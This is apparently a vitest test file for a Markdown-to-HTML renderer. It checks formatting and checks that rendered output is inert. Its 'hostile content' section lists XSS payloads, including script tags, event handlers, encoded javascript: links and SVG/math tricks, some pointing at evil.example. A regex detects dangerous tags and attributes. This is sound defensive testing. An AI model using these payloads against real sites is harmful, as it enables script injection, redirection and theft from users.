/** Markdown as HTML: what people wrote is there, and nothing of it can do anything. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { documentHtml } from "../../src/pages/document-html.ts";
import { expectCpuTime } from "../cpu-time.ts";

function htmlOf(markdown: string, notes: readonly (readonly [number, string])[] = []): string {
	const address = (url: string): string => url;
	return documentHtml(markdown, { notes: new Map(notes), anchors: new Map(), address }).markup.markup;
}

/** Without the ids that every block has. */
function bare(markdown: string): string {
	return htmlOf(markdown).replace(/ id="[^"]*"/g, "");
}

describe("Markdown", () => {
	test.each([
		["a *b* **c** `d` ~~e~~", "<p>a <em>b</em> <strong>c</strong> <code>d</code> <del>e</del></p>"],
		["# A", "<h1>A</h1>"],
		["- [x] done", /<li class="task-list-item"><input type="checkbox" checked disabled> done<\/li>/],
		[
			"| a |\n| - |\n| b |",
			/<table><thead><tr><th>a<\/th><\/tr><\/thead><tbody><tr><td>b<\/td><\/tr><\/tbody><\/table>/,
		],
		["```js\nif (a < b) c();\n```", '<pre><code class="language-js">if (a &#x3C; b) c();\n</code></pre>'],
		["<https://example.com/>", '<p><a href="https://example.com/">https://example.com/</a></p>'],
	])("%j", (markdown, html) => {
		if (typeof html === "string") expect(bare(markdown)).toBe(html);
		else expect(bare(markdown).replace(/\n/g, "")).toMatch(html);
	});

	test("headings have the anchors that GitHub gives them, and links lead there", () => {
		expect(htmlOf("[to](#some-words)\n\n## Some *words*")).toMatch(/href="#doc-some-words"[\s\S]*id="doc-some-words"/);
	});

	test("footnotes link to their text and back", () => {
		const html = htmlOf("a[^1]\n\n[^1]: note");
		expect(html).toMatch(/href="#doc-fn-1"/);
		expect(html).toMatch(/id="doc-fn-1"/);
		expect(html).toMatch(/href="#doc-fnref-1"/);
	});

	test("front matter is shown unchanged, and lines keep their numbers", () => {
		const { markup, idAt } = documentHtml("---\ntitle: a\n---\n\n# Heading\n", {
			notes: new Map(),
			anchors: new Map(),
			address: () => undefined,
		});
		expect(markup.markup).toMatch(/^<pre[^>]*><code>---\ntitle: a\n---\n<\/code><\/pre>/);
		expect(idAt(4)).toBe("doc-heading");
	});
});

describe("HTML in Markdown", () => {
	test.each([
		["press <kbd>x</kbd><br>y", "<p>press <kbd>x</kbd><br>y</p>"],
		["a <!-- hidden --> b", "<p>a  b</p>"],
		["see <your name>", "<p>see &#x3C;your name></p>"],
		["a</b>c <b>open", "<p>ac <b>open</b></p>"],
		["<b><i>a</b>b</i>", "<p><b><i>a</i></b>b</p>"],
		["x &lt;b&gt;", "<p>x &#x3C;b></p>"],
	])("%j", (markdown, html) => {
		expect(bare(markdown)).toBe(html);
	});

	test("details contain the Markdown between their tags", () => {
		const html = bare("<details>\n<summary>More</summary>\n\n- *a*\n\n</details>\n\nb").replace(/\n/g, "");
		expect(html).toBe("<details><summary>More</summary><ul><li><em>a</em></li></ul></details><p>b</p>");
	});

	test("pictures become links: nothing is fetched", () => {
		expect(bare("![a plan](https://example.com/x.png)")).toBe('<p><a href="https://example.com/x.png">a plan</a></p>');
		expect(bare('<img src="https://example.com/x.png">')).toContain('<a href="https://example.com/x.png">picture</a>');
		expect(bare("[![badge](https://example.com/x.png)](https://example.com/)")).toBe(
			'<p><a href="https://example.com/"><span>badge</span></a></p>',
		);
	});
});

/** What could do something in a browser. */
const DANGER =
	/<\/?(?:script|style|iframe|object|embed|svg|math|link|meta|base|form|button|img|video|audio|template|noscript)\b|\s(?:on\w+|style|srcset|src|srcdoc|formaction|action|background|poster|ping|target)(?=[\s=>])|(?:href|xlink:href)="(?!#|https?:|mailto:|\.|[\w/-])|href="\s*(?:javascript|data|vbscript|file|blob):/i;

const HOSTILE = [
	"<script>alert(1)</script>",
	"a <script src=//evil.example/x.js></script> b",
	"<img src=x onerror=alert(1)>",
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVa&#x0A;Script:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	"[x](javascript:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](java%73cript:alert(1))",
	"[x][y]\n\n[y]: javascript:alert(1)",
	"<javascript:alert(1)>",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"![x](javascript:alert(1))",
	"[x](vbscript:msgbox)",
	'<svg onload="alert(1)"><circle/></svg>',
	"<svg><script>alert(1)</script></svg>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<style>body{background:url(//evil.example)}</style>",
	'<p style="background:url(//evil.example)" onclick="alert(1)">x</p>',
	"<details open ontoggle=alert(1)>x</details>",
	'<b title="x" onmouseover="alert(1)">x</b>',
	'<meta http-equiv="refresh" content="0;url=//evil.example">',
	"<base href=//evil.example>",
	'<form action="//evil.example"><input name=x></form>',
	"```html\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"<!-- --><script>alert(1)</script>",
	"<!--><script>alert(1)</script>-->",
	"# <img src=x onerror=alert(1)>",
	'[x](https://example.com/"onmouseover="alert(1))',
	'[x](https://example.com/ "\\" onmouseover=\\"alert(1)")',
	'```"><script>alert(1)</script>\nx\n```',
	"<a id='x' name='y' href='#z'>x</a>",
];

/** The HTML's tags alone, with no values but addresses: other values and texts can do nothing. */
function tagsOf(html: string): string {
	const tags = html.match(/<\/?[A-Za-z](?:"[^"]*"|[^">])*>/g) ?? [];
	return tags.map((tag) => tag.replace(/(?<!\bhref)="[^"]*"/g, "")).join("\n");
}

describe("hostile content", () => {
	test.each(HOSTILE)("%j", (markdown) => {
		expect(tagsOf(htmlOf(markdown))).not.toMatch(DANGER);
	});

	test("the pattern finds hostile HTML", () => {
		for (const html of ["<script>", '<b onclick="x">', '<a href="javascript:x">', "<img src>"])
			expect(tagsOf(html)).toMatch(DANGER);
	});

	test("is harmless in any mixture", () => {
		const pieces = fc.constantFrom(
			...HOSTILE,
			"<b>",
			"</b>",
			"<details>",
			"\n\n",
			"- ",
			"> ",
			"`",
			"<",
			">",
			'"',
			"&",
			"a",
		);
		fc.assert(
			fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
				expect(tagsOf(htmlOf(parts.join("")))).not.toMatch(DANGER);
			}),
			{ numRuns: 300 },
		);
	});

	test("ids of the document never clash with the page's own", () => {
		const ids = [...htmlOf('<a id="search">x</a>\n\n# body\n\n<a name="b">').matchAll(/ id="([^"]*)"/g)].map(
			([, id]) => id,
		);
		expect(ids.length).toBeGreaterThan(1);
		for (const id of ids) expect(id).toMatch(/^(?:doc-|line-)/);
	});

	test("invisible and direction-changing characters become marks", () => {
		expect(bare("a\u202eb\u200bc\u0007")).toBe("<p>a⟨U+202E⟩b⟨U+200B⟩c␇</p>");
	});

	test.each([
		["deep quotes", `${"> ".repeat(20_000)}x`],
		["deep tags", `${"<b>".repeat(20_000)}x`],
		["open brackets", "[".repeat(50_000)],
		["open emphasis", "*a ".repeat(50_000)],
		["a wide table", `|${"a|".repeat(5000)}\n|${"-|".repeat(5000)}\n`],
		["comments that are not closed", `words\n\n${"<!-- ".repeat(20_000)}`],
	])("%s: the text is shown, and quickly", (_, markdown) => {
		expectCpuTime(5000, () => expect(htmlOf(markdown).length).toBeGreaterThan(5));
	});
});

test("marks a block with a note", () => {
	expect(htmlOf("## A\n\ntext\n", [[0, 'Alpha: "nothing" yet']])).toContain(
		'<h2 id="doc-a" class="noted" data-note="Alpha: &#x22;nothing&#x22; yet">',
	);
});
